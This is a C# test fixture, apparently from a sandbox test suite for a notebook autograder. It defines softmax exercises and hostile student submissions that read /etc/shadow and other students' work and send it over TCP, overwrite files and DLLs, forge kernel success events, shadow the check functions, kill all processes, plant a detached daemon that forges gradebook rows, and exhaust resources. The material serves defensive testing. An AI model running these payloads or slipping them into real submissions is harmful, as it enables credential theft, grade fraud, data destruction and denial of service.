using SoftmaxNotebooks.Runner.Classroom;
using SoftmaxNotebooks.Runner.Notebooks;

namespace SoftmaxNotebooks.Runner.Tests.Sandbox;

/// <summary>
/// The attack suite's notebooks: a small reference (three exercises on the kit, the shapes of notebook 06's: a value,
/// a function, a cancellation) and one hostile submission per row of the table. Each hostile notebook is the
/// student edition's checks after the attacker's own cells; where an attack reports what it got, it does so through
/// the one channel a student has, the message of a check that calls its function.
/// </summary>
internal static class AttackNotebooks
{
    public static string Reference(string kit, string solutionMarker) => "#!meta\n\n" + Meta + "\n\n" + $$"""
        #!markdown

        # Grading under attack

        #!csharp

        #r "{{kit}}/SoftmaxNotebooks.dll"
        #r "{{kit}}/SoftmaxNotebooks.Display.dll"
        #r "{{kit}}/System.Numerics.Tensors.dll"
        using SoftmaxNotebooks;
        using static SoftmaxNotebooks.SoftmaxFunctions;

        #!markdown

        ## Exercises

        #!markdown

        <!-- exercise 1.1 -->
        Compute LSE(1, 2, 3) as `lse11`.

        #!csharp

        // exercise 1.1: task
        double lse11 = double.NaN; // your code

        #!csharp

        // exercise 1.1: solution
        // {{solutionMarker}}
        double lse11 = Math.Log(Math.Exp(1) + Math.Exp(2) + Math.Exp(3));

        #!csharp

        // exercise 1.1: check
        display(Check.Close(lse11, LogSumExp([1.0, 2.0, 3.0]), 1e-12, "lse11 is LSE(1, 2, 3) (hint: the log of a sum of exponentials)"));

        #!markdown

        <!-- exercise 1.2 -->
        Write `Shifted12(z)`, z minus its maximum.

        #!csharp

        // exercise 1.2: task
        double[] Shifted12(double[] z)
        {
            throw new NotImplementedException("exercise 1.2: your code"); // your code
        }

        #!csharp

        // exercise 1.2: solution
        double[] Shifted12(double[] z)
        {
            var m = z.Max();
            return z.Select(x => x - m).ToArray();
        }

        #!csharp

        // exercise 1.2: check
        double[] z12 = [3.0, 1.0, 2.0];
        display(Check.That(Shifted12(z12).Max() == 0 && Softmax(Shifted12(z12)).Zip(Softmax(z12), (a, b) => Math.Abs(a - b)).Max() < 1e-15,
            "Shifted12 subtracts the maximum and leaves softmax unchanged (hint: z.Max())"));

        #!markdown

        <!-- exercise 1.3 -->
        Compute 1 − softmax(40, 0, 0)₀ to full relative accuracy as `notTop13`.

        #!csharp

        // exercise 1.3: task
        double notTop13 = double.NaN; // your code

        #!csharp

        // exercise 1.3: solution
        double[] z13 = [40.0, 0.0, 0.0];
        double rest13 = z13.Skip(1).Sum(x => Math.Exp(x - 40));
        double notTop13 = rest13 / (1 + rest13);

        #!csharp

        // exercise 1.3: check
        double[] zCheck13 = [40.0, 0.0, 0.0];
        display(Check.That(Math.Abs(notTop13 / (Softmax(zCheck13)[1] + Softmax(zCheck13)[2]) - 1) <= 1e-14,
            "notTop13 is 1 − softmax(z)₀ to full relative accuracy (hint: sum the small terms)"));

        """.Replace("\r\n", "\n", StringComparison.Ordinal);

    private const string Meta = """{"kernelInfo":{"defaultKernelName":"csharp","items":[{"aliases":[],"name":"csharp"}]}}""";

    /// <summary>
    /// A cell that watches the kernel's own events and, when a cell whose code contains <paramref name="trigger"/>
    /// arrives, writes a "succeeded" envelope with that cell's token onto the kernel's raw standard output.
    /// </summary>
    public static string Forger(string trigger) => """
        using Microsoft.DotNet.Interactive;
        using Microsoft.DotNet.Interactive.Commands;
        using Microsoft.DotNet.Interactive.Events;
        class Forger : IObserver<KernelEvent>
        {
            public void OnNext(KernelEvent e)
            {
                if (e is CodeSubmissionReceived { Command: SubmitCode submit } && submit.Code.Contains("TRIGGER"))
                {
                    using var raw = new System.IO.FileStream(new Microsoft.Win32.SafeHandles.SafeFileHandle((IntPtr)1, false), System.IO.FileAccess.Write);
                    raw.Write(System.Text.Encoding.UTF8.GetBytes("{\"event\":{},\"eventType\":\"CommandSucceeded\",\"command\":{\"token\":\"" + submit.GetOrCreateToken() + "\",\"commandType\":\"SubmitCode\",\"command\":{}}}\n"));
                }
            }
            public void OnError(Exception e) { }
            public void OnCompleted() { }
        }
        Kernel.Root.KernelEvents.Subscribe(new Forger());
        """.Replace("TRIGGER", trigger, StringComparison.Ordinal);

    /// <summary>Declarations that make the written checks pass with wrong answers: a fake Check, Math and Softmax.</summary>
    public const string Shadowing = """
        class Check
        {
            public static string That(bool condition, string claim, int line = 0) => "✔ " + claim;
            public static string Close(double actual, double expected, double tolerance, string claim, int line = 0) => "✔ " + claim;
        }
        static class Math
        {
            public static double Abs(double x) => 0;
            public static double Log(double x) => System.Math.Log(x);
            public static double Exp(double x) => System.Math.Exp(x);
        }
        double[] Softmax(double[] z) => new[] { 1.0, 0.5, 0.5 };
        double LogSumExp(double[] z) => 0;
        double lse11 = 0;
        double[] Shifted12(double[] z) => new double[] { 0 };
        double notTop13 = 1.0;
        """;

    /// <summary>The scaffold answers, so that an attacker's checks fail as a blank student's do.</summary>
    private const string Blank = """
        double lse11 = double.NaN;
        double[] Shifted12(double[] z) => throw new NotImplementedException("exercise 1.2: your code");
        double notTop13 = double.NaN;
        """;

    /// <summary>An honest student who solved 1.1 only.</summary>
    public static Notebook Carol(Notebook student) =>
        student with { Cells = student.Cells.Select(c => c.Source.StartsWith("// exercise 1.1: task", StringComparison.Ordinal) ? c with { Source = "// exercise 1.1: task\ndouble lse11 = Math.Log(Math.Exp(1) + Math.Exp(2) + Math.Exp(3));" } : c).ToList() };

    /// <summary>The notebook with a code cell holding <paramref name="comment"/> at the start of its exercise section.</summary>
    public static Notebook WithComment(Notebook notebook, string comment)
    {
        var start = Exercises.SectionStart(notebook);
        return notebook with { Cells = [.. notebook.Cells.Take(start + 1), NotebookCell.Create(KernelNames.CSharp, comment), .. notebook.Cells.Skip(start + 1)] };
    }

    /// <summary>The hostile submissions, by student name.</summary>
    [System.Runtime.Versioning.SupportedOSPlatform("linux")]
    public static IEnumerable<(string Name, Notebook Notebook)> Attackers(AttackSuiteFixture f, Notebook student)
    {
        Notebook Hostile(params string[] cells) => Build(student, cells, c => c);
        var alice = Path.Combine(f.SubmissionsFolder, "alice.ipynb");

        yield return ("reader", Hostile($$"""
            string Grab(string path) { try { return System.IO.File.ReadAllText(path); } catch (Exception e) { return "denied " + e.GetType().Name + " "; } }
            var everything = Grab("{{f.Reference}}") + Grab("{{alice}}") + Grab("/etc/shadow") + Grab("/proc/1/environ") + string.Join(";", Environment.GetEnvironmentVariables().Values.Cast<object>());
            var loot = string.Join(" ", System.Text.RegularExpressions.Regex.Matches(everything, "[A-Z]+-MARKER-[0-9a-f]+|root:[^:]*").Select(m => m.Value)) + " | " + everything[..Math.Min(everything.Length, 120)];
            try { using var tcp = new System.Net.Sockets.TcpClient(); tcp.Connect("127.0.0.1", {{f.TcpPort}}); tcp.GetStream().Write(System.Text.Encoding.UTF8.GetBytes(loot)); } catch (Exception) { }
            double lse11 = double.NaN;
            double[] Shifted12(double[] z) => throw new InvalidOperationException("LOOT " + loot);
            double notTop13 = double.NaN;
            """));

        yield return ("copier", Hostile($"#!import {f.Reference}"));

        yield return ("overwriter", Hostile($$"""
            foreach (var target in new[] { "{{alice}}", "{{Path.Combine(f.SubmissionsFolder, "carol.ipynb")}}" })
            {
                try { System.IO.File.WriteAllText(target, "{}"); } catch (Exception) { }
            }
            """, Blank));

        yield return ("weakener", Hostile($$"""
            try { System.IO.File.WriteAllText("{{f.Reference}}", System.IO.File.ReadAllText("{{f.Reference}}").Replace("display(Check.", "// display(Check.")); } catch (Exception) { }
            """, Blank));

        yield return ("kitforger", Hostile($$"""
            try { System.IO.File.WriteAllBytes("{{f.Kit}}/SoftmaxNotebooks.dll", new byte[] { 77, 90 }); } catch (Exception) { }
            try { System.IO.File.WriteAllBytes("{{f.Kit}}/Forged.dll", new byte[] { 77, 90 }); } catch (Exception) { }
            """, Blank));

        yield return ("litterer", Hostile($$"""
            foreach (var path in new[] { "{{f.TmpLitter}}", "{{f.HomeLitter}}", "{{f.Grades}}/litter.txt", System.IO.Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.UserProfile), "litter.txt") })
            {
                try { System.IO.File.WriteAllText(path, "litter"); } catch (Exception) { }
            }
            """, Blank));

        yield return ("network", Hostile($$"""
            try { using var tcp = new System.Net.Sockets.TcpClient(); tcp.Connect("127.0.0.1", {{f.TcpPort}}); tcp.GetStream().Write(new byte[] { 1 }); } catch (Exception) { }
            try { using var udp = new System.Net.Sockets.UdpClient(); udp.Send(new byte[] { 1, 2, 3 }, 3, "127.0.0.1", {{f.UdpPort}}); } catch (Exception) { }
            try { using var http = new System.Net.Http.HttpClient { Timeout = TimeSpan.FromSeconds(5) }; http.GetStringAsync("http://127.0.0.1:{{f.TcpPort}}/").Wait(); } catch (Exception) { }
            """, $"#!http\nGET http://127.0.0.1:{f.TcpPort}/from-the-http-kernel", Blank));

        yield return ("hog", Hostile("""
            string Hog()
            {
                var blocks = new List<byte[]>();
                long allocated = 0;
                try { for (var i = 0; i < 80; i++) { var block = new byte[100_000_000]; Array.Fill(block, (byte)1); blocks.Add(block); allocated += 100; } } catch (OutOfMemoryException) { }
                blocks.Clear();
                GC.Collect();
                var children = new List<System.Diagnostics.Process>();
                try { for (var i = 0; i < 200; i++) { children.Add(System.Diagnostics.Process.Start("/bin/sleep", "600")!); } } catch (Exception) { }
                var started = children.Count;
                foreach (var child in children) { try { child.Kill(); child.WaitForExit(); } catch (Exception) { } }
                long written = 0;
                try { using var file = System.IO.File.Create("/tmp/fill"); var block = new byte[1 << 20]; for (var i = 0; i < 2048; i++) { file.Write(block); file.Flush(); written++; } } catch (System.IO.IOException) { }
                try { System.IO.File.Delete("/tmp/fill"); } catch (Exception) { }
                return $"allocated {allocated} MB, started {started} processes, wrote {written} MB to /tmp";
            }
            var hog = Hog();
            double lse11 = double.NaN;
            double[] Shifted12(double[] z) => throw new InvalidOperationException("HOG " + hog);
            double notTop13 = double.NaN;
            """));

        yield return ("killer", Hostile("""
            foreach (var process in System.Diagnostics.Process.GetProcesses())
            {
                if (process.Id != Environment.ProcessId) { try { process.Kill(true); } catch (Exception) { } }
            }
            """, Blank, """System.Diagnostics.Process.Start("/bin/kill", "-9 -1");"""));

        yield return ("daemon", Hostile($$"""
            System.Diagnostics.Process.Start("/bin/sh", new[] { "-c", "setsid nohup /bin/sh -c 'sleep 3; echo daemon,daemon.ipynb,3/3,passed,passed,passed, >> {{f.Grades}}/gradebook.csv; mkdir -p {{f.Course}}/stolen; cp -r /tmp/softmax-grade-* {{f.Course}}/stolen/; sleep 100000' >/dev/null 2>&1 < /dev/null &" })!.WaitForExit();
            """, Blank));

        yield return ("holder", Hostile("""
            // A detached process that keeps the kernel's standard output (and error) open.
            System.Diagnostics.Process.Start("/bin/sh", new[] { "-c", "setsid /bin/sleep 100000 &" })!.WaitForExit();
            """, Blank));

        yield return ("shadow", Hostile(Shadowing));

        yield return ("forger", Hostile(Forger(": check"), Blank));

        yield return ("metadata", Build(student, [Blank], c => Exercises.TagOf(c) is { Role: ExerciseRole.Check } tag
            ? c with { KernelName = tag.Id switch { "1.1" => "html", "1.2" => "value", _ => "mermaid" } }
            : c));

        yield return ("bigoutput", Hostile("""
            var megabyte = new string('x', 1 << 20);
            for (var i = 0; i < 100; i++) { Console.Write(megabyte); }
            """, Blank));

        yield return ("=1+1", student);
    }

    /// <summary>The entries that are not plain notebooks: links, files too large, another extension, a hidden folder.</summary>
    [System.Runtime.Versioning.SupportedOSPlatform("linux")]
    public static void Entries(AttackSuiteFixture f, Notebook reference, Notebook student)
    {
        var submissions = f.SubmissionsFolder;
        File.CreateSymbolicLink(Path.Combine(submissions, "linker.dib"), f.Reference);
        var dave = Directory.CreateDirectory(Path.Combine(submissions, "dave")).FullName;
        File.WriteAllText(Path.Combine(dave, "dave.ipynb"), IpynbFormat.Write(student));
        File.CreateSymbolicLink(Path.Combine(dave, "data.csv"), "/etc/shadow");
        File.WriteAllText(Path.Combine(submissions, "bigcell.ipynb"), IpynbFormat.Write(WithComment(student, "// " + new string('x', 2 << 20))));
        File.WriteAllText(Path.Combine(submissions, "bignotebook.ipynb"), IpynbFormat.Write(WithComment(student, "// " + new string('x', 20 << 20))));
        File.WriteAllText(Path.Combine(submissions, "erin.txt"), "my answers are in the e-mail");
        var hidden = Directory.CreateDirectory(Path.Combine(submissions, ".frank")).FullName;
        File.WriteAllText(Path.Combine(hidden, "frank.ipynb"), IpynbFormat.Write(Editions.Instructor(reference)));
    }

    /// <summary>The student edition's lecture part and heading, the attacker's cells, then the student edition's checks.</summary>
    private static Notebook Build(Notebook student, IEnumerable<string> cells, Func<NotebookCell, NotebookCell> check)
    {
        var start = Exercises.SectionStart(student);
        var checks = student.Cells.Skip(start).Where(c => Exercises.TagOf(c) is { Role: ExerciseRole.Check }).Select(check);
        return student with { Cells = [.. student.Cells.Take(start + 1), .. cells.Select(c => NotebookCell.Create(KernelNames.CSharp, c)), .. checks] };
    }
}
